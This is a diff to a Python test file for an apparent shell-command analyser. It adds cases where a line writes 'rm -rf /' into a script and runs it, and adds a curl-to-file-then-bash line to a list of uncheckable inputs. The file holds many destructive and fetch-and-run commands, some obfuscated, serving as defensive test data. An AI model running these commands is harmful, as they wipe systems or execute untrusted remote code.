@@ -83,6 +83,11 @@ def test_corpus(row, project):
         ("install -m755 /bin/rm ~/bin/d; d -rf /", ["rm", "-rf", "/"]),
         ("toybox rm -rf /", ["rm", "-rf", "/"]),
         ("coproc X { rm -rf /; }", ["rm", "-rf", "/"]),
+        # a script written earlier on the line runs its text
+        ("echo 'rm -rf /' > /tmp/x.sh && sh /tmp/x.sh", ["rm", "-rf", "/"]),
+        ("cat > x.sh <<'E'\nrm -rf /\nE\nbash x.sh", ["rm", "-rf", "/"]),
+        ("echo 'rm -rf /' | tee x.sh; ./x.sh", ["rm", "-rf", "/"]),
+        ("echo 'set -e' > x.sh; echo 'rm -rf /' >> x.sh; . ./x.sh", ["rm", "-rf", "/"]),
     ],
 )
 def test_what_a_line_runs(text, expected):
@@ -96,7 +101,8 @@ def test_what_a_line_runs(text, expected):
     ['eval "$(curl x)"', "source <(curl x)", ". <(curl x)", "curl x | sh", "$(echo rm) -rf /",
      "`echo rm` -rf /", "$CMD -rf /", "bash -c \"$X\"", 'git -c core.pager="$P" log', "/???/r? -rf /",
      "sh < /dev/stdin", "xargs -a cmds sh", "echo 'rm -rf /' | xargs -I{} sh -c '{}'",
-     "IFS=$(cat f); x=rm,-rf; $x /", "ln -s $(which rm) /tmp/d; /tmp/d -rf /", "cp /bin/r? ./d; ./d -rf /"],
+     "IFS=$(cat f); x=rm,-rf; $x /", "curl -s x > i.sh; bash i.sh", "ln -s $(which rm) /tmp/d; /tmp/d -rf /",
+     "cp /bin/r? ./d; ./d -rf /"],
 )
 def test_what_cannot_be_checked(text):
     assert analyse(text).unchecked
